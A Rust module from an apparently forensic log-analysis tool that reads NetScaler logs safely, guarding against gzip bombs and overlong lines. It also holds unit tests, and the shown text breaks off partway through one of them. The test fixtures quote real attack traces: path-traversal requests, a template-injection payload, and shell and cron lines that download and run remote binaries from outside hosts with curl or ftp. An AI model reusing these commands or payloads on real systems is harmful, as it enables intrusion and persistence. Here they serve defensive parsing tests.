//! Log files: gzip-aware, capped line reading, log kinds, multi-line shell-history records
//! and the time coverage of each log.
//!
//! Logs come from a box an attacker may have controlled, so every read is bounded: a
//! decompression cap and a ratio check against gzip bombs, a cap per line and per record,
//! and buffers that are reused so memory does not grow with the file.

use std::io::{self, BufRead, BufReader, Chain, Cursor, Read, Take};
use std::ops::Range;

use flate2::bufread::MultiGzDecoder;

use crate::input::{InputProblem, Limits, ProblemKind};

/// What a log is, by its file name (`httpaccess.log.3.gz` is `HttpAccess`).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum LogKind {
    /// `httpaccess.log*`, `httpaccess-vpn.log*`: Apache combined plus NetScaler's time field.
    HttpAccess,
    /// `httperror.log*`, `httperror-vpn.log*`.
    HttpError,
    /// `bash.log*`: syslog lines with `shell_command="…"`, possibly over several lines.
    Bash,
    /// `notice.log*` (also carries shell commands).
    Notice,
    /// `sh.log*`.
    Sh,
    /// `cron*` in a log folder (`/var/log/cron`, `cron.0.gz`).
    Cron,
    /// `ns.log*`, `nsvpn.log*`.
    NsLog,
    /// `messages*`.
    Messages,
}

/// One record of a log: a line, or for shell history a command record that may span
/// several lines (joined with `\n`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Record<'a> {
    /// 1-based number of the record's first line in the (decompressed) file.
    pub line: u64,
    /// The text, lossily decoded (bytes that are not UTF-8 become U+FFFD).
    pub text: &'a str,
    /// The same, as the bytes in the file: rules match these (a pcap's magic number or a
    /// Latin-1 byte is not lost to decoding).
    pub bytes: &'a [u8],
    /// The record was longer than the line cap and was cut.
    pub truncated: bool,
}

/// How far back a log reaches.
#[derive(Clone, Debug, Default, PartialEq, Eq, serde::Serialize)]
pub struct Coverage {
    pub path: String,
    pub kind: Option<LogKind>,
    pub compressed: bool,
    pub lines: u64,
    /// The first and last timestamps found, as written (`28/Nov/2019:22:28:20 +0000`,
    /// `Jan 19 23:39:59`).
    pub first: Option<String>,
    pub last: Option<String>,
    /// The same as UTC seconds where the format carries a full date (access logs; syslog
    /// lines lack the year, and are placed in the year of the file's mtime when known).
    pub first_utc: Option<i64>,
    pub last_utc: Option<i64>,
}

/// The longest line handed over whole; the rest of a longer line is skipped unread into
/// memory, so one hostile line cannot exhaust it.
pub const MAX_LINE: usize = 64 << 10;

/// The longest multi-line shell record; further continuation lines are counted but dropped.
pub const MAX_RECORD: usize = 256 << 10;

/// Decompressed output below which the ratio is not judged: small files have headers
/// that make ratios meaningless.
const BOMB_FLOOR: u64 = 1 << 20;

const GZIP_MAGIC: [u8; 2] = [0x1f, 0x8b];
const IN_BUF: usize = 64 << 10;
const OUT_BUF: usize = 256 << 10;

/// The kind of the log at `path` (by its file name), or `None` for other files.
///
/// Only the rotation suffixes newsyslog writes (`.N`, `.gz`, `.N.gz`) are accepted after
/// the base name, so a dropped `httpaccess.log.bak.php` is not mistaken for a log.
pub fn kind_of(path: &str) -> Option<LogKind> {
    let name = path.rsplit('/').next().unwrap_or(path);
    const FIXED: [(&str, LogKind); 8] = [
        ("httpaccess.log", LogKind::HttpAccess),
        ("httpaccess-vpn.log", LogKind::HttpAccess),
        ("bash.log", LogKind::Bash),
        ("notice.log", LogKind::Notice),
        ("sh.log", LogKind::Sh),
        ("ns.log", LogKind::NsLog),
        ("nsvpn.log", LogKind::NsLog),
        ("cron", LogKind::Cron),
    ];
    for (base, kind) in FIXED {
        if let Some(rest) = name.strip_prefix(base)
            && is_rotation(rest)
        {
            return Some(kind);
        }
    }
    if let Some(rest) = name.strip_prefix("messages")
        && is_rotation(rest)
    {
        return Some(LogKind::Messages);
    }
    // `httperror.log`, `httperror-vpn.log`, …: a plain word between the two parts.
    if let Some(rest) = name.strip_prefix("httperror")
        && let Some(at) = rest.find(".log")
        && rest[..at]
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        && is_rotation(&rest[at + 4..])
    {
        return Some(LogKind::HttpError);
    }
    None
}

/// `""`, `.N`, `.gz` or `.N.gz`.
fn is_rotation(rest: &str) -> bool {
    let rest = rest.strip_suffix(".gz").unwrap_or(rest);
    match rest.strip_prefix('.') {
        None => rest.is_empty(),
        Some(n) => !n.is_empty() && n.len() <= 6 && n.bytes().all(|b| b.is_ascii_digit()),
    }
}

/// Reads the log `path` from `reader` (gzip recognised by its magic bytes, whatever the
/// name), handing every record to `each`; returns its coverage and what was wrong with it
/// (a truncated or corrupt gzip stream, a compression bomb, lines over the cap). `mtime`
/// places syslog timestamps (which lack a year) in a year.
pub fn read_log(
    path: &str,
    kind: Option<LogKind>,
    reader: &mut dyn Read,
    mtime: Option<i64>,
    limits: &Limits,
    each: &mut dyn FnMut(&Record),
) -> (Coverage, Vec<InputProblem>) {
    let mut cov = Coverage {
        path: path.to_string(),
        kind,
        ..Coverage::default()
    };
    let mut problems = Vec::new();
    let problem = |kind, detail: String| InputProblem {
        path: path.to_string(),
        kind,
        detail,
    };

    let mut head = [0u8; 2];
    let got = match read_head(reader, &mut head) {
        Ok(n) => n,
        Err(e) => {
            problems.push(problem(
                ProblemKind::Unreadable,
                format!("read failed: {e}"),
            ));
            return (cov, problems);
        }
    };
    cov.compressed = got == 2 && head == GZIP_MAGIC;
    let source = Cursor::new(head).take(got as u64).chain(reader);
    let stream = if cov.compressed {
        Stream::Gz(Box::new(MultiGzDecoder::new(BufReader::with_capacity(
            IN_BUF,
            Counted {
                inner: source,
                count: 0,
            },
        ))))
    } else {
        Stream::Plain(source)
    };
    let mut input = BufReader::with_capacity(
        OUT_BUF,
        Capped {
            stream,
            out: 0,
            max_file: limits.max_file,
            max_ratio: limits.max_ratio,
            stop: None,
        },
    );

    let mut lines = Lines {
        buf: Vec::with_capacity(4096),
        lineno: 0,
        deferred: None,
    };
    let mut reading = Reading {
        multi: matches!(kind, Some(LogKind::Bash | LogKind::Notice | LogKind::Sh)),
        stamps: Stamps::new(kind, mtime),
        span: Span::default(),
        pending: Pending::default(),
        scratch: String::new(),
        long_lines: 0,
        first_long: 0,
    };
    let failure = loop {
        match lines.next(&mut input) {
            Ok(None) => break None,
            Ok(Some(cut)) => reading.line(lines.lineno, &lines.buf, cut, each),
            Err(e) => {
                if !lines.buf.is_empty() {
                    reading.line(lines.lineno, &lines.buf, false, each);
                }
                break Some(e);
            }
        }
    };
    reading.flush(each);
    cov.lines = lines.lineno;
    reading.span.finish(&mut cov);

    let capped = input.get_ref();
    if let Some(e) = failure {
        let what = if cov.compressed {
            "gzip stream corrupt or cut short"
        } else {
            "read failed"
        };
        problems.push(problem(
            ProblemKind::Unreadable,
            format!("{what} after {} lines: {e}", cov.lines),
        ));
    }
    match capped.stop {
        Some(Stop::Truncated) => problems.push(problem(
            ProblemKind::Truncated,
            format!(
                "only the first {} bytes{} were read",
                limits.max_file,
                if cov.compressed {
                    " (decompressed)"
                } else {
                    ""
                }
            ),
        )),
        Some(Stop::Bomb { out, consumed }) => problems.push(problem(
            ProblemKind::CompressionBomb,
            format!(
                "{out} bytes decompressed from {consumed} (ratio above {}): stopped",
                limits.max_ratio
            ),
        )),
        None => {}
    }
    if reading.long_lines > 0 {
        problems.push(problem(
            ProblemKind::Truncated,
            format!(
                "{} line(s) longer than {MAX_LINE} bytes were cut (first at line {})",
                reading.long_lines, reading.first_long
            ),
        ));
    }
    tracing::debug!(
        path,
        ?kind,
        lines = cov.lines,
        problems = problems.len(),
        "log read"
    );
    (cov, problems)
}

/// Reads up to two bytes to sniff the gzip magic without losing them.
fn read_head(reader: &mut dyn Read, head: &mut [u8; 2]) -> io::Result<usize> {
    let mut n = 0;
    while n < head.len() {
        match reader.read(&mut head[n..]) {
            Ok(0) => break,
            Ok(k) => n += k,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    Ok(n)
}

type Source<'a> = Chain<Take<Cursor<[u8; 2]>>, &'a mut dyn Read>;

/// Counts compressed bytes pulled from the evidence, for the ratio check.
struct Counted<R> {
    inner: R,
    count: u64,
}

impl<R: Read> Read for Counted<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.count += n as u64;
        Ok(n)
    }
}

enum Stream<'a> {
    Plain(Source<'a>),
    Gz(Box<MultiGzDecoder<BufReader<Counted<Source<'a>>>>>),
}

impl Read for Stream<'_> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        match self {
            Stream::Plain(r) => r.read(buf),
            Stream::Gz(r) => r.read(buf),
        }
    }
}

#[derive(Clone, Copy, Debug)]
enum Stop {
    Truncated,
    Bomb { out: u64, consumed: u64 },
}

/// The content with the per-file cap and the bomb check applied; ends the stream (EOF)
/// when either trips, remembering why.
struct Capped<'a> {
    stream: Stream<'a>,
    out: u64,
    max_file: u64,
    max_ratio: u64,
    stop: Option<Stop>,
}

impl Read for Capped<'_> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if self.stop.is_some() || buf.is_empty() {
            return Ok(0);
        }
        if self.out >= self.max_file {
            // Only call it truncated if there really is more.
            let mut one = [0u8; 1];
            loop {
                match self.stream.read(&mut one) {
                    Ok(0) => return Ok(0),
                    Ok(_) => {
                        self.stop = Some(Stop::Truncated);
                        return Ok(0);
                    }
                    Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                    Err(e) => return Err(e),
                }
            }
        }
        let room = (self.max_file - self.out).min(buf.len() as u64) as usize;
        let n = self.stream.read(&mut buf[..room])?;
        self.out += n as u64;
        if let Stream::Gz(gz) = &self.stream
            && self.out > BOMB_FLOOR
        {
            // Bytes the decoder has taken, not those merely buffered ahead of it.
            let inner = gz.get_ref();
            let consumed = inner.get_ref().count - inner.buffer().len() as u64;
            if self.out / consumed.max(1) > self.max_ratio {
                self.stop = Some(Stop::Bomb {
                    out: self.out,
                    consumed,
                });
            }
        }
        Ok(n)
    }
}

/// Line splitting into one reused buffer.
struct Lines {
    buf: Vec<u8>,
    lineno: u64,
    /// An error met while skipping the rest of an overlong line, reported on the next call
    /// so the cut line is still handed over.
    deferred: Option<io::Error>,
}

impl Lines {
    /// The next line into `self.buf` (without `\n` and a trailing `\r`); `Some(true)` when
    /// it was cut at [`MAX_LINE`]. On error `self.buf` holds what was read of the line.
    fn next<R: BufRead>(&mut self, r: &mut R) -> io::Result<Option<bool>> {
        self.buf.clear();
        if let Some(e) = self.deferred.take() {
            return Err(e);
        }
        let res = r
            .by_ref()
            .take(MAX_LINE as u64 + 1)
            .read_until(b'\n', &mut self.buf);
        match res {
            Ok(0) => Ok(None),
            Ok(_) => {
                self.lineno += 1;
                if self.buf.last() == Some(&b'\n') {
                    self.buf.pop();
                    self.strip_cr();
                    Ok(Some(false))
                } else if self.buf.len() > MAX_LINE {
                    self.buf.truncate(MAX_LINE);
                    if let Err(e) = skip_line(r) {
                        self.deferred = Some(e);
                    }
                    Ok(Some(true))
                } else {
                    self.strip_cr();
                    Ok(Some(false))
                }
            }
            Err(e) => {
                if !self.buf.is_empty() {
                    self.lineno += 1;
                    self.buf.truncate(MAX_LINE);
                    self.strip_cr();
                }
                Err(e)
            }
        }
    }

    fn strip_cr(&mut self) {
        if self.buf.last() == Some(&b'\r') {
            self.buf.pop();
        }
    }
}

/// Discards input up to and including the next `\n`, without keeping it.
fn skip_line<R: BufRead>(r: &mut R) -> io::Result<()> {
    loop {
        let avail = match r.fill_buf() {
            Ok(b) => b,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(e),
        };
        if avail.is_empty() {
            return Ok(());
        }
        match avail.iter().position(|&b| b == b'\n') {
            Some(i) => {
                r.consume(i + 1);
                return Ok(());
            }
            None => {
                let n = avail.len();
                r.consume(n);
            }
        }
    }
}

/// Lossy UTF-8 without allocating for the usual, valid case.
fn decode<'b>(bytes: &'b [u8], scratch: &'b mut String) -> &'b str {
    match std::str::from_utf8(bytes) {
        Ok(s) => s,
        Err(_) => {
            scratch.clear();
            for chunk in bytes.utf8_chunks() {
                scratch.push_str(chunk.valid());
                if !chunk.invalid().is_empty() {
                    scratch.push(char::REPLACEMENT_CHARACTER);
                }
            }
            scratch
        }
    }
}

/// Per-file state between lines and records.
struct Reading {
    multi: bool,
    stamps: Stamps,
    span: Span,
    pending: Pending,
    scratch: String,
    long_lines: u64,
    first_long: u64,
}

impl Reading {
    fn line(&mut self, lineno: u64, line: &[u8], cut: bool, each: &mut dyn FnMut(&Record)) {
        if cut {
            if self.long_lines == 0 {
                self.first_long = lineno;
            }
            self.long_lines += 1;
        }
        if self.multi {
            let stamp = self.stamps.syslog(line);
            if stamp.is_some() || !self.pending.open {
                self.flush(each);
                self.pending.start(lineno, line, cut);
                if let Some((at, utc)) = stamp {
                    self.span.note(&line[at], utc);
                }
            } else {
                self.pending.append(line, cut);
            }
        } else {
            if let Some((at, utc)) = self.stamps.find(line) {
                self.span.note(&line[at], utc);
            }
            let text = decode(line, &mut self.scratch);
            each(&Record {
                line: lineno,
                text,
                bytes: line,
                truncated: cut,
            });
        }
    }

    fn flush(&mut self, each: &mut dyn FnMut(&Record)) {
        if self.pending.open {
            self.pending.open = false;
            let text = decode(&self.pending.buf, &mut self.scratch);
            each(&Record {
                line: self.pending.line,
                text,
                bytes: &self.pending.buf,
                truncated: self.pending.truncated,
            });
        }
    }
}

/// A shell-history record being joined from its lines.
#[derive(Default)]
struct Pending {
    buf: Vec<u8>,
    line: u64,
    truncated: bool,
    open: bool,
}

impl Pending {
    fn start(&mut self, lineno: u64, line: &[u8], cut: bool) {
        self.buf.clear();
        self.buf.extend_from_slice(line);
        self.line = lineno;
        self.truncated = cut;
        self.open = true;
    }

    fn append(&mut self, line: &[u8], cut: bool) {
        self.truncated |= cut;
        let room = MAX_RECORD.saturating_sub(self.buf.len());
        if room == 0 {
            self.truncated = true;
            return;
        }
        self.buf.push(b'\n');
        let take = line.len().min(room - 1);
        self.buf.extend_from_slice(&line[..take]);
        if take < line.len() {
            self.truncated = true;
        }
    }
}

/// The earliest and latest timestamp: by UTC when known, else first and last seen.
#[derive(Default)]
struct Span {
    first: String,
    last: String,
    first_utc: i64,
    last_utc: i64,
    by_utc: bool,
    seen: bool,
}

impl Span {
    fn note(&mut self, written: &[u8], utc: Option<i64>) {
        // Timestamps are only accepted when they are ASCII, so this never fails.
        let Ok(written) = std::str::from_utf8(written) else {
            return;
        };
        match utc {
            Some(t) if !self.by_utc => {
                self.by_utc = true;
                set(&mut self.first, written);
                set(&mut self.last, written);
                self.first_utc = t;
                self.last_utc = t;
            }
            Some(t) => {
                if t < self.first_utc {
                    self.first_utc = t;
                    set(&mut self.first, written);
                }
                if t >= self.last_utc {
                    self.last_utc = t;
                    set(&mut self.last, written);
                }
            }
            None if !self.by_utc => {
                if !self.seen {
                    set(&mut self.first, written);
                }
                set(&mut self.last, written);
            }
            None => {}
        }
        self.seen = true;
    }

    fn finish(self, cov: &mut Coverage) {
        if self.seen {
            cov.first = Some(self.first);
            cov.last = Some(self.last);
        }
        if self.by_utc {
            cov.first_utc = Some(self.first_utc);
            cov.last_utc = Some(self.last_utc);
        }
    }
}

fn set(s: &mut String, v: &str) {
    s.clear();
    s.push_str(v);
}

/// Timestamp parsing for one log; hand-written because it runs on every line.
struct Stamps {
    kind: Option<LogKind>,
    /// The year and month of the file's mtime (UTC), to place year-less syslog dates.
    reference: Option<(i64, u32)>,
}

type Stamp = (Range<usize>, Option<i64>);

impl Stamps {
    fn new(kind: Option<LogKind>, mtime: Option<i64>) -> Stamps {
        let reference = mtime
            .and_then(|t| time::OffsetDateTime::from_unix_timestamp(t).ok())
            .map(|t| (i64::from(t.year()), u32::from(u8::from(t.month()))));
        Stamps { kind, reference }
    }

    fn find(&self, line: &[u8]) -> Option<Stamp> {
        match self.kind {
            Some(LogKind::HttpAccess) => access_stamp(line),
            Some(LogKind::HttpError) => error_stamp(line),
            Some(_) => self.syslog(line),
            None => self
                .syslog(line)
                .or_else(|| access_stamp(line))
                .or_else(|| error_stamp(line)),
        }
    }

    /// A syslog timestamp at the start of the line (followed by a space); placed in the
    /// mtime's year, or the year before for months after the mtime's (the log was
    /// written before its mtime).
    fn syslog(&self, line: &[u8]) -> Option<Stamp> {
        let (len, month, day, secs) = syslog_stamp(line)?;
        let utc = self.reference.and_then(|(year, ref_month)| {
            let year = if month > ref_month { year - 1 } else { year };
            (day <= days_in_month(year, month))
                .then(|| days_from_civil(year, month, day) * 86400 + i64::from(secs))
        });
        Some((0..len, utc))
    }
}

/// `Jan 19 23:39:59 `, `Jan  5 …`, `Jan 5 …`; hour up to 24 (NetScaler writes `24:26:52`,
/// read as that many hours after the day's midnight).
fn syslog_stamp(line: &[u8]) -> Option<(usize, u32, u32, u32)> {
    let month = month(line.get(0..3)?)?;
    if *line.get(3)? != b' ' {
        return None;
    }
    let (day, at) = match (*line.get(4)?, *line.get(5)?) {
        (b' ', d) => (digit(d)?, 6),
        (d1, b' ') => (digit(d1)?, 5),
        (d1, d2) => (digit(d1)? * 10 + digit(d2)?, 6),
    };
    if !(1..=31).contains(&day) || *line.get(at)? != b' ' {
        return None;
    }
    let secs = clock(line.get(at + 1..at + 9)?, 24)?;
    let end = at + 9;
    (*line.get(end)? == b' ').then_some((end, month, day, secs))
}

/// `[28/Nov/2019:22:28:20 +0000]`: the first `[` of the line, near its start.
fn access_stamp(line: &[u8]) -> Option<Stamp> {
    let open = line.iter().take(256).position(|&b| b == b'[')? + 1;
    let s = line.get(open..open + 27)?;
    if s[2] != b'/' || s[6] != b'/' || s[11] != b':' || s[20] != b' ' || s[26] != b']' {
        return None;
    }
    let day = digits(&s[0..2])?;
    let month = month(&s[3..6])?;
    let year = digits(&s[7..11])?;
    let secs = clock(&s[12..20], 23)?;
    let sign = match s[21] {
        b'+' => 1,
        b'-' => -1,
        _ => return None,
    };
    let offset = i64::from(digits(&s[22..24])? * 3600 + digits(&s[24..26])? * 60);
    let year = i64::from(year);
    if day == 0 || day > days_in_month(year, month) {
        return None;
    }
    let utc = days_from_civil(year, month, day) * 86400 + i64::from(secs) - sign * offset;
    Some((open..open + 26, Some(utc)))
}

/// Apache's error-log stamp at the line start, `[Sun Jan 19 23:39:59 2020]` or with
/// microseconds; it carries no zone and is read as UTC (the appliance's usual zone).
fn error_stamp(line: &[u8]) -> Option<Stamp> {
    if line.first() != Some(&b'[') || line.get(4) != Some(&b' ') {
        return None;
    }
    let s = &line[5..];
    let month = month(s.get(0..3)?)?;
    let day = match (*s.get(4)?, *s.get(5)?) {
        (b' ', d) => digit(d)?,
        (d1, d2) => digit(d1)? * 10 + digit(d2)?,
    };
    if s.get(3) != Some(&b' ') || s.get(6) != Some(&b' ') {
        return None;
    }
    let secs = clock(s.get(7..15)?, 23)?;
    let mut at = 15;
    if s.get(at) == Some(&b'.') {
        at += 1;
        while s.get(at).is_some_and(u8::is_ascii_digit) {
            at += 1;
        }
    }
    if s.get(at) != Some(&b' ') || s.get(at + 5) != Some(&b']') {
        return None;
    }
    let year = i64::from(digits(s.get(at + 1..at + 5)?)?);
    if day == 0 || day > days_in_month(year, month) {
        return None;
    }
    let utc = days_from_civil(year, month, day) * 86400 + i64::from(secs);
    Some((1..5 + at + 5, Some(utc)))
}

fn month(b: &[u8]) -> Option<u32> {
    Some(match b {
        b"Jan" => 1,
        b"Feb" => 2,
        b"Mar" => 3,
        b"Apr" => 4,
        b"May" => 5,
        b"Jun" => 6,
        b"Jul" => 7,
        b"Aug" => 8,
        b"Sep" => 9,
        b"Oct" => 10,
        b"Nov" => 11,
        b"Dec" => 12,
        _ => return None,
    })
}

fn digit(b: u8) -> Option<u32> {
    b.is_ascii_digit().then(|| u32::from(b - b'0'))
}

fn digits(b: &[u8]) -> Option<u32> {
    b.iter().try_fold(0, |n, &d| Some(n * 10 + digit(d)?))
}

/// `hh:mm:ss` as seconds of the day.
fn clock(s: &[u8], max_hour: u32) -> Option<u32> {
    if s.len() != 8 || s[2] != b':' || s[5] != b':' {
        return None;
    }
    let (h, m, sec) = (digits(&s[0..2])?, digits(&s[3..5])?, digits(&s[6..8])?);
    (h <= max_hour && m <= 59 && sec <= 60).then_some(h * 3600 + m * 60 + sec)
}

fn days_in_month(year: i64, month: u32) -> u32 {
    match month {
        2 if (year % 4 == 0 && year % 100 != 0) || year % 400 == 0 => 29,
        2 => 28,
        4 | 6 | 9 | 11 => 30,
        _ => 31,
    }
}

/// Days since 1970-01-01 of a proleptic Gregorian date (H. Hinnant's algorithm).
fn days_from_civil(year: i64, month: u32, day: u32) -> i64 {
    let y = if month <= 2 { year - 1 } else { year };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = i64::from((month + 9) % 12);
    let doy = (153 * mp + 2) / 5 + i64::from(day) - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use flate2::Compression;
    use flate2::write::GzEncoder;

    use super::*;

    /// What `read_log` handed over, owned.
    #[derive(Debug, PartialEq, Eq)]
    struct Rec {
        line: u64,
        text: String,
        truncated: bool,
    }

    fn read_with(
        path: &str,
        data: &[u8],
        mtime: Option<i64>,
        limits: &Limits,
    ) -> (Vec<Rec>, Coverage, Vec<InputProblem>) {
        let mut recs = Vec::new();
        let mut reader = data;
        let (cov, problems) = read_log(path, kind_of(path), &mut reader, mtime, limits, &mut |r| {
            recs.push(Rec {
                line: r.line,
                text: r.text.to_string(),
                truncated: r.truncated,
            })
        });
        (recs, cov, problems)
    }

    fn read(path: &str, data: &[u8]) -> (Vec<Rec>, Coverage, Vec<InputProblem>) {
        read_with(path, data, None, &Limits::default())
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut enc = GzEncoder::new(Vec::new(), Compression::default());
        enc.write_all(data).unwrap();
        enc.finish().unwrap()
    }

    fn texts(recs: &[Rec]) -> Vec<&str> {
        recs.iter().map(|r| r.text.as_str()).collect()
    }

    fn utc(s: &str) -> i64 {
        let f = time::macros::format_description!(
            "[year]-[month]-[day] [hour]:[minute]:[second] [offset_hour sign:mandatory]"
        );
        time::OffsetDateTime::parse(&format!("{s} +00"), &f)
            .unwrap()
            .unix_timestamp()
    }

    #[test]
    fn kind_of_table() {
        use LogKind::*;
        let table: &[(&str, Option<LogKind>)] = &[
            ("/var/log/httpaccess.log", Some(HttpAccess)),
            ("httpaccess.log.0", Some(HttpAccess)),
            ("logs/httpaccess.log.12.gz", Some(HttpAccess)),
            ("httpaccess-vpn.log", Some(HttpAccess)),
            ("httpaccess-vpn.log.3.gz", Some(HttpAccess)),
            ("httpaccess.log.bak.php", None),
            ("httpaccess.log.php", None),
            ("httpaccess.log.", None),
            ("httpaccess.logs", None),
            ("HTTPACCESS.LOG", None),
            ("/var/log/httperror.log", Some(HttpError)),
            ("httperror-vpn.log.1.gz", Some(HttpError)),
            ("httperror.log.bak.php", None),
            ("bash.log", Some(Bash)),
            ("bash.log.0.gz", Some(Bash)),
            ("bash.log.24", Some(Bash)),
            ("notice.log.2.gz", Some(Notice)),
            ("sh.log", Some(Sh)),
            ("bash.sh.log", None),
            ("/var/log/cron", Some(Cron)),
            ("cron.0", Some(Cron)),
            ("cron.3.gz", Some(Cron)),
            ("crontab", None),
            ("cron.d", None),
            ("/var/cron/tabs/nobody", None),
            ("ns.log", Some(NsLog)),
            ("ns.log.4.gz", Some(NsLog)),
            ("nsvpn.log.0", Some(NsLog)),
            ("/var/log/messages", Some(Messages)),
            ("messages.1.gz", Some(Messages)),
            ("messages.php", None),
            ("/var/log/", None),
            ("", None),
            ("/netscaler/portal/scripts/newbm.pl", None),
        ];
        for (path, want) in table {
            assert_eq!(kind_of(path), *want, "{path}");
        }
    }

    const C1: &str = "\
127.0.0.1 - - [18/Jan/2020:00:15:29 +0000] \"GET /vpn/../vpns/portal/12345678.xml HTTP/1.1\" 200 71875 \"-\" \"python-requests/2.18.4\"
127.0.0.1 - - [17/Jan/2020:20:07:22 +0000] \"GET /vpn/../vpns/portal/NIGkDs7jfV4qTnX1tF5my9gPM3Bz0JpH.xml HTTP/1.1\" 200 - \"-\" \"python-requests/2.21.0\"
";

    const C3: &str = "\
127.0.0.1 - - [23/Jan/2020:22:30:19 +0000] \"PUT /vpn/../vpns/portal/scripts/picktheme.pl HTTP/1.1\" 200 27758 \"-\" \"-\"
127.0.0.1 - - [23/Jan/2020:22:30:22 +0000] \"PUT /vpn/../vpns/portal/lol[%25template.new({'BLOCK'%3d'print`id`'})%25].xml HTTP/1.1\" 200 753 \"-\" \"-
";

    /// C.4 as it is in `httpaccess.log.4` (the vector shows grep's `file:` prefix).
    const C4: &str = "\
127.0.0.2 - - [13/Jan/2020:07:35:02 +0000] \"POST /vpn/../vpns/portal/scripts/quczpevgdg.pl HTTP/1.1\" 404 231 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:71.0) Gecko/20100101 Firefox/71.0\"
127.0.0.2 - - [13/Jan/2020:08:16:30 +0000] \"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 135 \"-\" \"curl/7.67.0\"
127.0.0.2 - - [13/Jan/2020:09:35:42 +0000] \"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 304 - \"-\" \"Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.0\"
";

    const C12: &str = "\
193.187.174.104 - - [12/Jan/2020:11:26:02 +0000] \"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\" 200 83 \"-\"
193.187.174.104 - - [12/Jan/2020:11:26:03 +0000] \"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 15 \"-\"
193.187.174.104 - - [12/Jan/2020:11:26:04 +0000] \"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 15 \"-\"
193.187.174.104 - - [12/Jan/2020:11:26:05 +0000] \"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 15 \"-\"
193.187.174.104 - - [12/Jan/2020:11:26:11 +0000] \"GET /vpn/../vpns/portal/AOUnCfwrjIJrpngpwLXHddqADAxTraBan.xml HTTP/1.1\" 200 - \"-\"
192.168.0.4 - - [28/Nov/2019:22:28:20 +0000] \"POST /vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 135 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:71.0) Gecko/20100101 Firefox/71.0\" \"Time: 6809 microsecs\"
192.168.0.4 - - [28/Nov/2019:22:28:22 +0000] \"GET /vpns/portal/xbtewgybbp.xml HTTP/1.1\" 200 696 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:71.0) Gecko/20100101 Firefox/71.0\" \"Time: 147744 microsecs\"
";

    const C6: &str = "\
rm: /var/tmp/netscalerd: No such file or directory
curl: (7) Failed to connect to 95.179.163.186 port 443: Operation timed out
chmod: /tmp/.init/httpd: No such file or directory
bash: line 1: /tmp/.init/httpd: No such file or directory
cat: /proc/version: No such file or directory
cat: /proc/cpuinfo: No such file or directory
mkdir: /tmp/.init: File exists
wget: not found
  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current
Traceback (most recent call last):
";

    const C7: &str = "Jan 19 23:39:59 <local7.notice> ns bash[1173]: root on (null) shell_command=\"pkill -9 netscalerd;rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k https://95.179.163.186/wp-content/uploads/2018/09/64d4c2d3ee56af4f4ca8171556d50faa -o /tmp/.init/httpd; chmod 744 /tmp/.init/httpd; echo \"* * * * * /var/nstmp/.nscache/httpd\" | crontab -; /tmp/.init/httpd &\"\"\n";

    const BSD: &str = "Jan 19 24:26:52 <local7.notice> ns bash[1297]: root on /dev/pts/0 shell_command=\"/usr/bin/ftp -o /tmp/bsd ftp://xxxxxxxxxxxxxxxxxxxxxx66.42.98.220/bsd\"\n";

    const C8: &str = "\
Jan 19 23:00:06 <cron.info> Stage-NS01 /usr/sbin/cron[14451]: (nobody) CMD (curl http://185.178.45.221/ci.sh | sh > /dev/null 2>&1)
Jan 19 23:01:05 <cron.info> Stage-NS01 /usr/sbin/cron[14605]: (root) CMD (   nsfsyncd -p)
";

    /// A shell-history log as the Mandiant fixtures have them: a `shell_command` that spans
    /// lines, between ordinary records.
    const MULTI: &str = "\
Jan 19 23:39:50 <local7.notice> ns bash[1170]: root on /dev/pts/0 shell_command=\"ls /var/tmp\"
Jan 19 23:39:59 <local7.notice> ns bash[1173]: nobody on (null) shell_command=\"cat > /tmp/.init/run.sh <<EOF
#!/bin/sh
curl -k https://95.179.163.186/x -o /tmp/.init/httpd

/tmp/.init/httpd &
EOF\"
Jan  2 00:00:01 <local7.notice> ns bash[1180]: root on /dev/pts/0 shell_command=\"exit\"
";

    #[test]
    fn access_vectors_one_record_per_line() {
        for (path, data, first, last) in [
            (
                "/var/log/httpaccess.log",
                C1,
                "17/Jan/2020:20:07:22 +0000",
                "18/Jan/2020:00:15:29 +0000",
            ),
            (
                "httpaccess.log",
                C3,
                "23/Jan/2020:22:30:19 +0000",
                "23/Jan/2020:22:30:22 +0000",
            ),
            (
                "/var/log/httpaccess.log.4",
                C4,
                "13/Jan/2020:07:35:02 +0000",
                "13/Jan/2020:09:35:42 +0000",
            ),
            (
                "httpaccess.log",
                C12,
                "28/Nov/2019:22:28:20 +0000",
                "12/Jan/2020:11:26:11 +0000",
            ),
        ] {
            let (recs, cov, problems) = read(path, data.as_bytes());
            assert!(problems.is_empty(), "{problems:?}");
            let want: Vec<&str> = data.lines().collect();
            assert_eq!(texts(&recs), want);
            assert!(
                recs.iter()
                    .enumerate()
